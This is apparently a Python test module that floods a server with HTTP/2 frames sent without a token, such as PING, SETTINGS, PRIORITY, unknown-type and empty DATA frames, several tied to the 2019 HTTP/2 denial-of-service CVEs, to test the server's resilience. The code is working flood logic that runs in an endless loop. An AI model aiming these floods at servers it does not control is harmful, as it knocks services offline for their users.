"""Frames that cost the sender nine bytes and the server a turn, all of them without a token."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.floods import wire
from tests.floods.assailant import Assailant, Pace, besiege
from tests.floods.dose import Count, Dose, Target

_AT_ONCE = 1000
"""Frames in one write."""


async def pings(target: Target, dose: Dose) -> Count:
    """PING, each of which asks for an answer (CVE-2019-9512)."""
    return await _pour(target, dose, lambda _: wire.frame(wire.PING, 0, 0, b"meshlog!"))


async def ping_answers(target: Target, dose: Dose) -> Count:
    """PING with ACK, to which nothing was asked."""
    return await _pour(target, dose, lambda _: wire.frame(wire.PING, wire.ACK, 0, b"meshlog!"))


async def settings(target: Target, dose: Dose) -> Count:
    """SETTINGS that change each time, each of which asks for an answer (CVE-2019-9515)."""
    return await _pour(
        target, dose, lambda number: wire.settings((wire.INITIAL_WINDOW, 65_535 + number % 7), (0x1, number % 4096))
    )


async def window_updates(target: Target, dose: Dose) -> Count:
    """WINDOW_UPDATE of one byte for the connection, until its window is as wide as may be; then on a call's."""
    return await _pour(target, dose, lambda number: wire.window(0 if number % 2 else 1, 1))


async def unknown_frames(target: Target, dose: Dose) -> Count:
    """Frames of an unknown type, without content."""
    return await _pour(target, dose, lambda _: wire.frame(wire.UNKNOWN, 0, 0))


async def long_unknown_frames(target: Target, dose: Dose) -> Count:
    """Frames of an unknown type, as long as frames may be."""
    return await _pour(target, dose, lambda _: wire.frame(wire.UNKNOWN, 0, 0, bytes(wire.LONGEST_FRAME)), at_once=8)


async def altsvc(target: Target, dose: Dose) -> Count:
    """ALTSVC (RFC 7838), which clients do not send."""
    content = struct.pack(">H", 4) + b"edge" + b'h2=":443"'
    return await _pour(target, dose, lambda _: wire.frame(wire.ALTSVC, 0, 0, content))


async def priorities(target: Target, dose: Dose) -> Count:
    """PRIORITY on streams that do not exist yet, each depending on another (CVE-2019-9513)."""

    def build(number: int) -> bytes:
        stream = 2 * (number % 5000) + 3
        return wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", stream + 2, number % 256))

    return await _pour(target, dose, build)


async def empty_data(target: Target, dose: Dose) -> Count:
    """DATA without content in a call that was opened without a token (CVE-2019-9518)."""
    return await _pour(target, dose, lambda _: wire.frame(wire.DATA, 0, 1))


async def padded_data(target: Target, dose: Dose) -> Count:
    """DATA that is padding alone: it uses window and carries nothing."""
    return await _pour(target, dose, lambda _: wire.frame(wire.DATA, 0x8, 1, b"\x03\0\0\0"))


async def small_data(target: Target, dose: Dose) -> Count:
    """One message without a token that comes a byte a frame, within the server's windows."""
    content = wire.message(bytes(8 * 1024 * 1024))[: 8 * 1024 * 1024]

    async def attack(peer: Assailant) -> None:
        pace = Pace(dose)
        await peer.send(_greeting(target), 0)
        for at in range(0, len(content), 500):
            await peer.send_data(1, content[at : at + 500], largest=1)
            await pace.wait(500)

    return await besiege(target, dose, attack)


def _greeting(target: Target) -> bytes:
    """A connection with one call, without a token, that asks for the status of all."""
    call = wire.call_headers(wire.CSDS_STREAM, authority=target.authority)
    return wire.PREFACE + wire.settings() + wire.opening(1, call)


async def _pour(target: Target, dose: Dose, build: Callable[[int], bytes], *, at_once: int = _AT_ONCE) -> Count:
    """Send the same kind of frame again and again; a unit is a frame."""
    content = [build(number) for number in range(at_once * 10)]

    async def attack(peer: Assailant) -> None:
        pace = Pace(dose)
        size = pace.chunk(at_once)
        chunks = [b"".join(content[at : at + size]) for at in range(0, len(content) - size + 1, size)]
        await peer.send(_greeting(target), 0)
        number = 0
        while True:
            await peer.send(chunks[number % len(chunks)], size)
            await pace.wait(size)
            number += 1

    return await besiege(target, dose, attack)
